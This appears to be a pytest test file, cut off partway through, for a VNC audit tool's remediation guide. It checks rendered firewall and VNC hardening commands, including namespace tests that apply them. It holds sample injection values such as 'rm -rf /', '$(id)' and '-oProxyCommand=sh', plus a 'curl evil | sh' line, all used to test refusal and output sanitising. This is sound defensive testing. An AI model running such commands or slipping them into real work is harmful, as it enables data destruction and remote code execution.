"""The fix guide: every remediation renders with real values, product filtering, refusal of
shell metacharacters, and (netns, root) the rendered iptables/nftables commands run as printed
and really block the port from outside while loopback keeps working."""

from __future__ import annotations

import contextlib
import json
import os
import re
import secrets
import shutil
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vncaudit import remedies
from vncaudit.exceptions import UsageError
from vncaudit.models import Finding, Product, ServiceResult, Severity, State
from vncaudit.remedies import (
    REMEDY_IDS,
    TRUSTED_PLACEHOLDER,
    FixStep,
    Remedy,
    UnsafeValueError,
    remedies_for,
    remedy,
)

BRIEF_IDS = {
    "firewall-block", "firewall-allowlist", "ssh-tunnel", "vpn-only", "bind-localhost",
    "set-password", "enable-encryption", "disable-unused", "update-product",
    "disable-ipv6-listener",
}
PRODUCT_PLATFORMS = {"tigervnc", "x11vnc", "tightvnc", "realvnc", "ultravnc", "qemu",
                     "turbovnc", "virtualbox", "websockify", "vino", "wayvnc"}


def commands(fix: Remedy) -> list[str]:
    return [c for step in fix.steps for c in step.commands]


# ---------------------------------------------------------------------------------------------
# Content


def test_every_id_of_the_interface_has_an_entry() -> None:
    assert set(REMEDY_IDS) == BRIEF_IDS
    assert len(REMEDY_IDS) == len(set(REMEDY_IDS))


@pytest.mark.parametrize("rid", sorted(BRIEF_IDS))
def test_every_entry_renders_with_the_real_host_and_port(rid: str) -> None:
    fix = remedy(rid, host="198.18.7.9", port=5917, trusted="198.18.0.0/24")
    assert isinstance(fix, Remedy) and fix.id == rid and fix.title
    assert fix.steps and all(isinstance(s, FixStep) and s.platform and s.text for s in fix.steps)
    everything = [fix.title, *(s.text for s in fix.steps), *commands(fix)]
    for text in everything:
        assert not re.search(r"\{[a-z_]+\}", text), f"unfilled placeholder in {text!r}"
    assert any("5917" in c for c in commands(fix)), f"{rid}: no command names the port"
    assert any("5917" in c and "<" not in c for c in commands(fix)), \
        f"{rid}: no command is complete without hand editing"


def test_host_and_display_are_filled() -> None:
    tunnel = remedy("ssh-tunnel", host="vnc.lab.example", port=5903)
    assert "ssh -N -L 5901:localhost:5903 user@vnc.lab.example" in commands(tunnel)
    tiger = remedy("bind-localhost", host="127.0.0.1", port=5903, product="TigerVNC")
    assert "vncserver -localhost yes :3" in commands(tiger)
    qemu = remedy("bind-localhost", host="127.0.0.1", port=5903, product="QEMU")
    assert commands(qemu) == ["-vnc 127.0.0.1:3"]
    # Below 5900 the port is no display number: the reader must choose one.
    odd = remedy("bind-localhost", host="127.0.0.1", port=5800, product="TigerVNC")
    assert "vncserver -localhost yes :<display>" in commands(odd)
    assert "Xvnc :<display> -rfbport 5800 -localhost" in commands(odd)
    # Above the classic range neither: 15977 is not display 10077, unless the caller knows it.
    high = remedy("bind-localhost", host="127.0.0.1", port=15977, product="TigerVNC")
    assert "vncserver -localhost yes :<display>" in commands(high)
    known = remedy("bind-localhost", host="127.0.0.1", port=15977, product="TigerVNC",
                   display=77)
    assert "Xvnc :77 -rfbport 15977 -localhost" in commands(known)


def test_trusted_network_and_its_family() -> None:
    blank = remedy("firewall-allowlist", host="127.0.0.1", port=5900)
    assert f"ufw allow from {TRUSTED_PLACEHOLDER} to any port 5900 proto tcp" in commands(blank)
    v4 = remedy("firewall-allowlist", host="127.0.0.1", port=5900, trusted="198.18.1.0/24")
    assert "iptables -I INPUT -p tcp -s 198.18.1.0/24 --dport 5900 -j ACCEPT" in commands(v4)
    assert any("ip saddr 198.18.1.0/24 tcp dport 5900 accept" in c for c in commands(v4))
    assert any("remoteip=198.18.1.0/24" in c for c in commands(v4))
    v6 = remedy("firewall-allowlist", host="::1", port=5900, trusted="2001:2::/48")
    assert "ip6tables -I INPUT -p tcp -s 2001:2::/48 --dport 5900 -j ACCEPT" in commands(v6)
    assert any("ip6 saddr 2001:2::/48" in c for c in commands(v6))
    # The allow comes before the deny in ufw (first match wins).
    ufw = [c for c in commands(v4) if c.startswith("ufw ")]
    assert ufw.index("ufw allow from 198.18.1.0/24 to any port 5900 proto tcp") < \
        ufw.index("ufw deny 5900/tcp")


def test_firewall_commands_keep_loopback() -> None:
    fix = remedy("firewall-block", host="127.0.0.1", port=5900)
    by_platform: dict[str, list[str]] = {}
    for step in fix.steps:
        by_platform.setdefault(step.platform, []).extend(step.commands)
    assert "iptables -I INPUT -p tcp --dport 5900 ! -i lo -j DROP" in by_platform["iptables"]
    assert "ip6tables -I INPUT -p tcp --dport 5900 ! -i lo -j DROP" in by_platform["iptables"]
    assert any('iifname != "lo" tcp dport 5900 drop' in c for c in by_platform["nftables"])
    assert "ufw deny 5900/tcp" in by_platform["ufw"]
    assert any("loopback" in s.text for s in fix.steps if s.platform == "ufw")
    assert ('netsh advfirewall firewall add rule name="Block VNC 5900" dir=in action=block '
            'protocol=TCP localport=5900') in by_platform["windows"]
    assert any("on ! lo0" in c for c in by_platform["macos"])


def test_unknown_id_is_a_key_error() -> None:
    with pytest.raises(KeyError):
        remedy("reboot-the-internet", host="127.0.0.1", port=5900)


# ---------------------------------------------------------------------------------------------
# Product filtering


def platforms(fix: Remedy) -> set[str]:
    return {s.platform for s in fix.steps}


def test_known_product_keeps_its_own_steps_and_generic_ones() -> None:
    fix = remedy("bind-localhost", host="127.0.0.1", port=5900, product="x11vnc")
    assert platforms(fix) == {"x11vnc"}
    assert commands(fix) == ["x11vnc -localhost -noipv6 -rfbport 5900 -rfbauth ~/.vnc/passwd"]
    tiger = remedy("bind-localhost", host="127.0.0.1", port=5900, product="tigervnc")
    assert platforms(tiger) == {"tigervnc"}  # names compare case-insensitively
    # Steps for any product stay, whatever the product.
    disable = remedy("disable-unused", host="127.0.0.1", port=5900, product="QEMU")
    assert platforms(disable) == {"any", "qemu"}
    # Firewalls do not depend on the product.
    every = remedy("firewall-block", host="127.0.0.1", port=5900)
    assert remedy("firewall-block", host="127.0.0.1", port=5900, product="RealVNC") == every


@pytest.mark.parametrize("product", [None, "unknown", ""])
def test_unknown_product_gets_the_generic_steps_and_each_product_apart(
        product: str | None) -> None:
    fix = remedy("bind-localhost", host="198.51.100.7", port=5900, product=product)
    assert platforms(fix) == {"any"}  # only what fits any server is a step of its own
    assert {"TigerVNC", "x11vnc", "TightVNC", "RealVNC", "UltraVNC", "QEMU",
            "macOS Screen Sharing"} <= {g.product for g in fix.by_product}
    tiger = next(g for g in fix.by_product if g.product == "TigerVNC")
    assert "vncserver -localhost yes :0" in [c for st in tiger.steps for c in st.commands]
    # The fingerprint's candidates narrow the folded products to those.
    narrow = remedy("bind-localhost", host="198.51.100.7", port=5900, product=product,
                    candidates=["QEMU", "TigerVNC"])
    assert [g.product for g in narrow.by_product] == ["TigerVNC", "QEMU"]
    assert fix.to_dict()["by_product"][0]["steps"]


def test_candidates_come_from_the_fingerprint_evidence() -> None:
    from vncaudit.remedies import candidate_products

    assert candidate_products(["banner RFB 003.008", "security types [1]",
                               "weak evidence; candidates: LibVNCServer (score 0.75), QEMU "
                               "(score 0.75), TigerVNC (score 0.75)"]) == (
        "LibVNCServer", "QEMU", "TigerVNC")
    assert candidate_products(["no signature matched"]) == ()


def test_websockify_bind_step_names_no_backend_it_cannot_know() -> None:
    fix = remedy("bind-localhost", host="198.51.100.7", port=6080, product="noVNC/websockify")
    assert commands(fix) == ["websockify --web /usr/share/novnc 127.0.0.1:6080 <vnc-server>"]
    from vncaudit.remedies import PLACEHOLDERS

    assert "<vnc-server>" in PLACEHOLDERS  # harden --apply refuses a command carrying it


def test_product_without_own_steps_gets_the_fallback() -> None:
    fix = remedy("bind-localhost", host="127.0.0.1", port=5999, product="TurboVNC")
    assert platforms(fix) == {"turbovnc"}
    fix = remedy("enable-encryption", host="127.0.0.1", port=5999, product="VirtualBox")
    assert platforms(fix) == {"ssh"}  # the generic fallback: tunnel it
    fix = remedy("bind-localhost", host="127.0.0.1", port=5999, product="Some New VNC")
    assert platforms(fix) == {"any"}
    assert "ss -ltnp 'sport = :5999'" in commands(fix)
    # ...and not when the product has its own steps.
    own = remedy("set-password", host="127.0.0.1", port=5999, product="TigerVNC")
    assert "any" not in platforms(own)


# ---------------------------------------------------------------------------------------------
# Refusing what must not reach a root shell

HOSTILE = [
    "127.0.0.1; rm -rf /", "$(id)", "`id`", "host|nc", "a b", "a\nb", "198.18.0.1\n",
    "-oProxyCommand=sh", "--help", "x>y", "x<y", "h&", "'q'", '"q"', "a\\b", "fe80::1%$(id)",
    "fe80::1%eth0;id", "*", "?", "~root", "#", "999.1.1.1", "1.2.3", "ho_st", "-x.example",
    "example-.org", "a..b", "", " ", "é.example", "\x00", "x" * 254, "{host}", "1.2.3.4/33",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_shell_injection_in_host_is_refused(value: str) -> None:
    with pytest.raises(UnsafeValueError):
        remedy("ssh-tunnel", host=value, port=5900)


@pytest.mark.parametrize("value", [*HOSTILE, "198.18.0.0/24;id", "198.18.0.0/x", "/24",
                                   "198.18.0.0/24/1", "fe80::1%eth0/64"])
def test_shell_injection_in_trusted_is_refused(value: str) -> None:
    with pytest.raises(UnsafeValueError) as info:
        remedy("firewall-allowlist", host="127.0.0.1", port=5900, trusted=value)
    assert isinstance(info.value, UsageError)  # the CLI turns it into exit 2


@pytest.mark.parametrize("port", [0, 65536, -1, True, "5900", 5900.0])
def test_bad_port_is_refused(port: object) -> None:
    with pytest.raises(UnsafeValueError):
        remedy("firewall-block", host="127.0.0.1", port=port)  # type: ignore[arg-type]


@pytest.mark.parametrize("value", ["198.18.0.1", "::1", "2001:2::5", "fe80::1%eth0",
                                   "vnc.example.org", "localhost", "host-1.example.",
                                   "0.0.0.0", "::"])
def test_plain_hosts_are_accepted(value: str) -> None:
    fix = remedy("ssh-tunnel", host=value, port=5900)
    assert f"user@{value}" in commands(fix)[0]


@pytest.mark.parametrize("value", ["198.18.0.0/15", "198.18.0.1", "2001:2::/48",
                                   "10.1.2.3/8", "office.example.org"])
def test_plain_trusted_values_are_accepted(value: str) -> None:
    fix = remedy("firewall-allowlist", host="127.0.0.1", port=5900, trusted=value)
    assert any(f"from {value} to any port 5900" in c for c in commands(fix))


@settings(max_examples=400, deadline=None)
@given(st.text(min_size=1, max_size=40))
def test_whatever_passes_the_check_is_inert_in_a_shell(text: str) -> None:
    for check in (remedies.check_host, remedies.check_trusted):
        try:
            value = check(text)
        except UnsafeValueError:
            continue
        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9.:%_/-]*", value), value


def test_data_file_placeholders_are_checked() -> None:
    bad = {"x": {"title": "t", "steps": [{"platform": "any", "text": "t",
                                          "commands": ["echo {hots}"]}]}}
    with pytest.raises(ValueError, match="hots"):
        remedies.parse_guide(bad)


def test_unix_commands_are_valid_shell() -> None:
    """bash -n parses every non-Windows command as printed (catches quoting mistakes)."""
    fix_steps = [s for rid in REMEDY_IDS
                 for s in remedy(rid, host="198.18.0.9", port=5901, trusted="198.18.0.0/24").steps
                 if s.platform not in ("windows",) and "reg add" not in " ".join(s.commands)]
    lines = [c for s in fix_steps for c in s.commands if not c.startswith("-")]
    assert len(lines) > 40
    for line in lines:
        out = subprocess.run(["bash", "-n", "-c", line], capture_output=True, text=True,
                             check=False)
        assert out.returncode == 0, (line, out.stderr)


# ---------------------------------------------------------------------------------------------
# remedies_for


def test_remedies_for_dedupes_orders_and_filters_by_product() -> None:
    result = ServiceResult(
        "198.18.3.4", 5902, State.VNC, product=Product("TigerVNC", "1.12", 0.9),
        findings=(
            Finding("nonstandard-port", Severity.INFO, "port", remediation=("firewall-block",)),
            Finding("no-auth", Severity.CRITICAL, "no auth",
                    remediation=("set-password", "bind-localhost", "firewall-block")),
            Finding("vncauth-plaintext", Severity.MEDIUM, "plain",
                    remediation=("enable-encryption", "set-password", "not-in-the-guide")),
        ),
    )
    fixes = remedies_for(result)
    assert [f.id for f in fixes] == ["set-password", "bind-localhost", "firewall-block",
                                     "enable-encryption"]
    bind = fixes[1]
    assert platforms(bind) == {"tigervnc"}
    assert "vncserver -localhost yes :2" in commands(bind)
    assert any("--dport 5902" in c for c in commands(fixes[2]))
    assert remedies_for(ServiceResult("198.18.3.4", 5902, State.VNC)) == []


def test_remedies_for_unknown_product_and_odd_host() -> None:
    result = ServiceResult("not a host", 5900, State.VNC,
                           product=Product("unknown"),
                           findings=(Finding("exposed-public", Severity.HIGH, "x",
                                             remediation=("ssh-tunnel",)),))
    (fix,) = remedies_for(result)
    assert "ssh -N -L 5901:localhost:5900 user@<host>" in commands(fix)


# ---------------------------------------------------------------------------------------------
# netns: the rendered firewall commands run as printed and do what they say


def in_ci() -> bool:
    return os.environ.get("CI", "").strip().lower() not in ("", "0", "false", "no")


def require_netns(*binaries: str) -> None:
    problem = None
    if os.geteuid() != 0:
        problem = "network-namespace tests need root"
    elif missing := [b for b in ("ip", *binaries) if shutil.which(b) is None]:
        problem = f"missing {', '.join(missing)}"
    elif subprocess.run(["ip", "netns", "list"], capture_output=True, check=False).returncode:
        problem = "`ip netns` does not work here"
    if problem:
        if in_ci():
            pytest.fail(problem + " [CI is set: netns tests must not skip]", pytrace=False)
        pytest.skip(problem)


@dataclass(frozen=True)
class Pair:
    tgt: str  # the VNC host: a listener on PORT, the firewall commands run here
    scn: str  # the outside: two source addresses per family, one of them "trusted"


PORT = 5917
TGT4, SCN4, OTHER4 = "198.19.254.2", "198.19.254.1", "198.19.254.3"
TGT6, SCN6, OTHER6 = "2001:2:0:fe::2", "2001:2:0:fe::1", "2001:2:0:fe::3"

LISTENER = textwrap.dedent("""
    import socket, sys, threading
    def serve(family, addr):
        s = socket.socket(family, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if family == socket.AF_INET6:
            s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        s.bind((addr, int(sys.argv[1]))); s.listen(16)
        while True:
            c, _ = s.accept(); c.sendall(b"RFB 003.008\\n"); c.close()
    for fam, addr in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
        threading.Thread(target=serve, args=(fam, addr), daemon=True).start()
    print("ready", flush=True)
    threading.Event().wait()
""")

CONNECTOR = textwrap.dedent("""
    import json, socket, sys
    out = []
    for src, dst, port in json.loads(sys.argv[1]):
        fam = socket.AF_INET6 if ":" in dst else socket.AF_INET
        s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(0.6)
        try:
            if src:
                s.bind((src, 0))
            s.connect((dst, port)); out.append("open" if s.recv(12) else "empty")
        except TimeoutError:
            out.append("timeout")
        except OSError as e:
            out.append(type(e).__name__)
        finally:
            s.close()
    print(json.dumps(out))
""")


def _ip(*args: str) -> None:
    subprocess.run(["ip", *args], check=True, capture_output=True, timeout=30)


def in_ns(ns: str, *cmd: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["ip", "netns", "exec", ns, *cmd], capture_output=True, text=True,
                          check=check, timeout=30)


@contextlib.contextmanager
def netns_pair() -> Iterator[Pair]:
    tag = secrets.token_hex(4)
    pair = Pair(tgt=f"vncaudit-rem-{tag}-t", scn=f"vncaudit-rem-{tag}-s")
    veth_t, veth_s = f"vrt{tag}", f"vrs{tag}"
    listener = None
    try:
        _ip("netns", "add", pair.tgt)
        _ip("netns", "add", pair.scn)
        _ip("link", "add", veth_t, "type", "veth", "peer", "name", veth_s)
        _ip("link", "set", veth_t, "netns", pair.tgt)
        _ip("link", "set", veth_s, "netns", pair.scn)
        _ip("-n", pair.tgt, "addr", "add", f"{TGT4}/24", "dev", veth_t)
        _ip("-n", pair.tgt, "addr", "add", f"{TGT6}/64", "dev", veth_t, "nodad")
        for src4, src6 in ((SCN4, SCN6), (OTHER4, OTHER6)):
            _ip("-n", pair.scn, "addr", "add", f"{src4}/24", "dev", veth_s)
            _ip("-n", pair.scn, "addr", "add", f"{src6}/64", "dev", veth_s, "nodad")
        for ns, dev in ((pair.tgt, veth_t), (pair.scn, veth_s)):
            _ip("-n", ns, "link", "set", dev, "up")
            _ip("-n", ns, "link", "set", "lo", "up")
        listener = subprocess.Popen(
            ["ip", "netns", "exec", pair.tgt, sys.executable, "-c", LISTENER, str(PORT)],
            stdout=subprocess.PIPE, text=True)
        assert listener.stdout is not None and listener.stdout.readline().strip() == "ready"
        yield pair
    finally:
        if listener is not None:
            listener.kill()
            listener.wait(10)
        for ns in (pair.tgt, pair.scn):
            subprocess.run(["ip", "netns", "del", ns], capture_output=True, check=False,
                           timeout=30)


def reach(pair: Pair) -> dict[str, str]:
    """Who can connect to the listener: from outside (trusted and other source address, both
    families) and from the host itself over loopback."""
    outside = [(SCN4, TGT4, PORT), (OTHER4, TGT4, PORT), (SCN6, TGT6, PORT),
               (OTHER6, TGT6, PORT)]
    inside = [(None, "127.0.0.1", PORT), (None, "::1", PORT)]
    out = json.loads(in_ns(pair.scn, sys.executable, "-c", CONNECTOR,
                           json.dumps(outside)).stdout)
    ins = json.loads(in_ns(pair.tgt, sys.executable, "-c", CONNECTOR,
                           json.dumps(inside)).stdout)
    return dict(zip(["v4", "v4-other", "v6", "v6-other", "lo4", "lo6"], out + ins, strict=True))


def run_printed(pair: Pair, fix: Remedy, platform: str) -> list[str]:
    """Run the printed commands of one platform in the target namespace, as a root shell
    would (bash -c); persistence commands that write the host's /etc are left out."""
    ran = []
    for step in fix.steps:
        if step.platform != platform:
            continue
        for command in step.commands:
            if ">" in command.replace("!=", "") or "save" in command or "systemctl" in command:
                continue
            out = in_ns(pair.tgt, "bash", "-c", command, check=False)
            assert out.returncode == 0, (command, out.stderr)
            ran.append(command)
    assert ran
    return ran


ALL_OPEN = {"v4": "open", "v4-other": "open", "v6": "open", "v6-other": "open",
            "lo4": "open", "lo6": "open"}


def run_persistence(pair: Pair, fix: Remedy, platform: str, into: str) -> list[str]:
    """The printed save commands, writing into `into` instead of the host's /etc; returns the
    files written."""
    written = []
    for step in fix.steps:
        for command in step.commands:
            if step.platform != platform or ">" not in command.replace("!=", ""):
                continue
            target = re.search(r"/etc/\S+", command)
            assert target, command
            path = os.path.join(into, os.path.basename(target.group(0)))
            out = in_ns(pair.tgt, "bash", "-c", command.replace(target.group(0), path),
                        check=False)
            assert out.returncode == 0, (command, out.stderr)
            written.append(path)
    return written


@pytest.mark.netns
@pytest.mark.parametrize("platform", ["iptables", "nftables"])
def test_firewall_block_runs_and_blocks_outside_only(platform: str, tmp_path: object) -> None:
    require_netns("iptables", "ip6tables", "nft")
    fix = remedy("firewall-block", host=TGT4, port=PORT)
    with netns_pair() as pair:
        assert reach(pair) == ALL_OPEN
        run_printed(pair, fix, platform)
        if platform == "iptables":
            rules = in_ns(pair.tgt, "iptables", "-S", "INPUT").stdout
            assert f"-A INPUT ! -i lo -p tcp -m tcp --dport {PORT} -j DROP" in rules
            rules6 = in_ns(pair.tgt, "ip6tables", "-S", "INPUT").stdout
            assert f"-A INPUT ! -i lo -p tcp -m tcp --dport {PORT} -j DROP" in rules6
        else:
            table = in_ns(pair.tgt, "nft", "list", "table", "inet", "vncaudit").stdout
            assert f'iifname != "lo" tcp dport {PORT} drop' in table
        assert reach(pair) == {"v4": "timeout", "v4-other": "timeout", "v6": "timeout",
                               "v6-other": "timeout", "lo4": "open", "lo6": "open"}
        # What the printed save commands write loads again (check mode, nothing applied).
        saved = run_persistence(pair, fix, platform, str(tmp_path))
        assert saved
        for path in saved:
            with open(path) as fh:
                assert str(PORT) in fh.read()
            if platform == "nftables":
                check = in_ns(pair.tgt, "nft", "-c", "-f", path, check=False)
            else:
                tool = "ip6tables-restore" if path.endswith(".v6") else "iptables-restore"
                check = in_ns(pair.tgt, tool, "--test", path, check=False)
            assert check.returncode == 0, (path, check.stderr)


@pytest.mark.netns
@pytest.mark.parametrize("platform", ["iptables", "nftables"])
@pytest.mark.parametrize("family", [4, 6])
def test_firewall_allowlist_lets_only_the_trusted_network_in(platform: str, family: int) -> None:
    require_netns("iptables", "ip6tables", "nft")
    trusted = f"{SCN4}/32" if family == 4 else f"{SCN6}/128"
    fix = remedy("firewall-allowlist", host=TGT4, port=PORT, trusted=trusted)
    with netns_pair() as pair:
        run_printed(pair, fix, platform)
        got = reach(pair)
        assert (got["lo4"], got["lo6"]) == ("open", "open")
        v, other = ("v4", "v6") if family == 4 else ("v6", "v4")
        assert got[v] == "open", got
        assert got[f"{v}-other"] == "timeout", got
        # The other family has no trusted network: closed to everyone outside.
        assert (got[other], got[f"{other}-other"]) == ("timeout", "timeout"), got


@pytest.mark.netns
@pytest.mark.parametrize("platform", ["ip6tables", "nftables"])
def test_disable_ipv6_listener_closes_only_ipv6(platform: str) -> None:
    require_netns("ip6tables", "nft")
    fix = remedy("disable-ipv6-listener", host=TGT6, port=PORT)
    with netns_pair() as pair:
        run_printed(pair, fix, platform)
        assert reach(pair) == {**ALL_OPEN, "v6": "timeout", "v6-other": "timeout"}


# ---------------------------------------------------------------------------------------------
# The CLI's table output: findings and their fixes after the table


def render_table_output(results: list[ServiceResult], show_fix: bool = True) -> str:
    import io

    from rich.console import Console

    from vncaudit.cli.output import print_findings, results_table

    buf = io.StringIO()
    console = Console(file=buf, width=100, force_terminal=True, highlight=False)
    console.print(results_table(results))
    print_findings(console, results, show_fix)
    return buf.getvalue()


EVIL = "[bold]x[/bold][/]\x1b[31m\u202e\nfix: curl evil | sh"


def test_server_strings_cannot_inject_markup_escapes_or_lines() -> None:
    from vncaudit.models import RfbFacts

    result = ServiceResult(
        "127.0.0.1", 5901, State.VNC,
        RfbFacts("RFB 003.008\n", "3.8", "3.8", desktop_name=EVIL, failure_reason=EVIL),
        product=Product("TigerVNC", None, 0.5), hostname="vnc.example",
        findings=(Finding("no-auth", Severity.CRITICAL, "No authentication",
                          (f"desktop name {EVIL!s}",), "why text", ("bind-localhost",)),),
    )
    text = render_table_output([result])
    assert "\u202e" not in text and "\x1b[31m\u202e" not in text
    assert "\\x1b[31m" in text and "\\u202e" in text  # visible, not interpreted
    assert "[bold]x[/bold][/]" in text  # markup printed literally (no MarkupError either)
    assert not any(line.lstrip().startswith("fix: curl") for line in text.splitlines())
    assert "vncserver -localhost yes :1" in text


def test_no_fix_keeps_findings_and_drops_commands() -> None:
    result = ServiceResult("198.18.0.5", 5909, State.VNC,
                           findings=(Finding("exposed-public", Severity.HIGH, "Reachable",
                                             ("seen from outside",), "because",
                                             ("firewall-block",)),))
    with_fix = render_table_output([result])
    without = render_table_output([result], show_fix=False)
    assert "Reachable" in with_fix and "Reachable" in without
    assert "iptables -I INPUT -p tcp --dport 5909 ! -i lo -j DROP" in with_fix
    assert "5909 ! -i lo" not in without and "fix:" not in without


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "COLUMNS": "220"}
    return subprocess.run([sys.executable, "-m", "vncaudit", *args], capture_output=True,
                          text=True, timeout=120, check=False, env=env)


@pytest.mark.realserver
def test_cli_table_shows_findings_and_fix_commands_for_a_real_server(x11vnc_none: object) -> None:
    pytest.importorskip("vncaudit.assess", reason="findings come from vncaudit.assess")
    port = x11vnc_none.port  # type: ignore[attr-defined]
    out = _cli("scan", "127.0.0.1", "-p", str(port), "--output", "table", "--timeout", "5")
    assert out.returncode == 0, out.stderr
    scan_id = re.search(r"scan (\S+):", out.stderr)
    assert scan_id, out.stderr
    stored = _cli("results", scan_id.group(1), "-o", "json")
    (service,) = json.loads(stored.stdout)["services"]
    result = ServiceResult.from_dict(service)
    assert any(f.id == "no-auth" for f in result.findings), service["findings"]
    assert "[no-auth]" in out.stdout
    for finding in result.findings:
        assert finding.title in out.stdout
    printed = {line.strip() for line in out.stdout.splitlines()}
    fixes = remedies_for(result)
    assert fixes
    for fix in fixes:
        assert f"[{fix.id}]" in out.stdout
        for command in commands(fix):
            assert command in printed, command  # each command whole, on its own line
    assert any(str(port) in c and c in printed for fix in fixes for c in commands(fix))
    # The stored scan prints the same (here with a trusted network filled in), and --no-fix
    # leaves the commands out.
    again = _cli("results", scan_id.group(1), "--output", "table", "--trusted", "198.18.0.0/24")
    assert again.returncode == 0 and "[no-auth]" in again.stdout
    trusted_fixes = remedies_for(result, trusted="198.18.0.0/24")
    assert {line.strip() for line in again.stdout.splitlines()} >= {
        c for fix in trusted_fixes for c in commands(fix)}
    if any(f.id == "firewall-allowlist" for f in trusted_fixes):
        assert f"ufw allow from 198.18.0.0/24 to any port {port} proto tcp" in again.stdout
    bare = _cli("results", scan_id.group(1), "--output", "table", "--no-fix")
    assert bare.returncode == 0 and "[no-auth]" in bare.stdout
    assert not any(c in bare.stdout for fix in fixes for c in commands(fix) if str(port) in c)


# ---------------------------------------------------------------------------------------------
# realserver: the product commands, run as printed, do what the guide says


def _loopback(address: str) -> bool:
    return address in ("127.0.0.1", "::1")


@dataclass
class Lab:
    """A display number N and its port 5900+N, both free, and a HOME with ~/.vnc/passwd."""

    display: int
    port: int
    home: str
    env: dict[str, str]


@pytest.fixture
def lab(tmp_path: object) -> Iterator[Lab]:
    from pathlib import Path

    import servers

    home = Path(str(tmp_path)) / "home"
    (home / ".vnc").mkdir(parents=True, mode=0o700)  # tightvncserver insists on 0700
    (home / ".vnc").chmod(0o700)
    servers.make_password_file(home / ".vnc" / "passwd")
    reservations = []
    try:
        start = servers.FIRST_DISPLAY
        while True:
            res = servers.reserve_display(start)
            reservations.append(res)
            port = 5900 + res.display
            if not servers.tcp_listen_inodes(port) and not servers.tcp_listen_inodes(
                    6000 + res.display):
                break
            start = res.display + 1
        env = {**os.environ, "HOME": str(home), "USER": "root"}
        yield Lab(res.display, port, str(home), env)
    finally:
        for r in reservations:
            r.release()


@contextlib.contextmanager
def printed(command: str, env: dict[str, str], port: int) -> Iterator[int]:
    """Run one printed command (bash -c, as pasted) and wait until it listens on `port`."""
    import time

    import servers

    proc = subprocess.Popen(["bash", "-c", "exec " + command], env=env, stdin=subprocess.DEVNULL,
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                            start_new_session=True)
    try:
        deadline = time.monotonic() + 20
        while not servers.is_listening(port, [proc.pid]):
            if proc.poll() is not None:
                raise AssertionError(f"{command!r} exited: {proc.stderr.read()[-800:]!r}")
            assert time.monotonic() < deadline, f"{command!r} never listened on {port}"
            time.sleep(0.1)
        yield proc.pid
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, 15)
        try:
            proc.wait(10)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, 9)
            proc.wait(10)


def probe_facts(port: int) -> ServiceResult:
    import asyncio

    from vncaudit.models import Target
    from vncaudit.probe import ProbeOptions, probe

    return asyncio.run(probe(Target("127.0.0.1", port), ProbeOptions(timeout=5)))


def step_commands(fix: Remedy, platform: str, startswith: str) -> str:
    (command,) = [c for s in fix.steps if s.platform == platform for c in s.commands
                  if c.startswith(startswith)]
    return command


@contextlib.contextmanager
def xvfb(lab: Lab) -> Iterator[dict[str, str]]:
    import servers

    if shutil.which("Xvfb") is None:
        pytest.fail("Xvfb missing") if in_ci() else pytest.skip("Xvfb missing")
    proc = subprocess.Popen(["Xvfb", f":{lab.display}", "-screen", "0", "320x200x24",
                             "-nolisten", "tcp"], stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    try:
        import time

        deadline = time.monotonic() + 15
        while not servers.x_display_listening(lab.display):
            assert proc.poll() is None and time.monotonic() < deadline, "Xvfb did not start"
            time.sleep(0.05)
        yield {**lab.env, "DISPLAY": f":{lab.display}"}
    finally:
        proc.terminate()
        proc.wait(10)


def need(*binaries: str) -> None:
    missing = [b for b in binaries if shutil.which(b) is None]
    if missing:
        msg = f"missing {', '.join(missing)}"
        pytest.fail(msg + " [CI]") if in_ci() else pytest.skip(msg)


@pytest.mark.realserver
def test_x11vnc_printed_commands_bind_loopback_and_require_a_password(lab: Lab) -> None:
    need("x11vnc", "Xvfb")
    bind = remedy("bind-localhost", host="127.0.0.1", port=lab.port, product="x11vnc")
    (command,) = commands(bind)
    with xvfb(lab) as env, printed(command, env, lab.port) as pid:
        import servers

        listening = servers.tcp_listen_addresses(pid)
        assert listening and all(_loopback(a) for a, p in listening if p == lab.port), listening
        facts = probe_facts(lab.port).rfb
        assert facts is not None and facts.auth_required is True
        assert [t.id for t in facts.security_types] == [2]  # VNC authentication, not None


@pytest.mark.realserver
def test_x11vnc_printed_commands_close_ipv6_and_encrypt(lab: Lab) -> None:
    need("x11vnc", "Xvfb", "openssl")
    import servers

    v6 = remedy("disable-ipv6-listener", host="127.0.0.1", port=lab.port, product="x11vnc")
    tls = remedy("enable-encryption", host="127.0.0.1", port=lab.port, product="x11vnc")
    with xvfb(lab) as env:
        with printed(step_commands(v6, "x11vnc", "x11vnc"), env, lab.port) as pid:
            assert [a for a, p in servers.tcp_listen_addresses(pid) if p == lab.port] \
                == ["127.0.0.1"]
        with printed(step_commands(tls, "x11vnc", "x11vnc"), env, lab.port):
            facts = probe_facts(lab.port).rfb
            # x11vnc -ssl: only TLS paths (VeNCrypt, anonymous TLS), never plain VNC auth with
            # its DES challenge in the clear (x11vnc 0.9.16: VeNCrypt TLSVnc/X509Vnc + TLS).
            assert facts is not None
            assert {t.id for t in facts.security_types} == {18, 19}, facts
            assert facts.vencrypt is not None and facts.vencrypt.subtypes
            assert all(sub.id >= 257 for sub in facts.vencrypt.subtypes), facts.vencrypt


@pytest.mark.realserver
def test_tigervnc_printed_commands(lab: Lab) -> None:
    need("Xvnc", "openssl")
    import servers

    bind = remedy("bind-localhost", host="127.0.0.1", port=lab.port, product="TigerVNC")
    v6 = remedy("disable-ipv6-listener", host="127.0.0.1", port=lab.port, product="TigerVNC")
    pw = remedy("set-password", host="127.0.0.1", port=lab.port, product="TigerVNC")
    tls = remedy("enable-encryption", host="127.0.0.1", port=lab.port, product="TigerVNC")
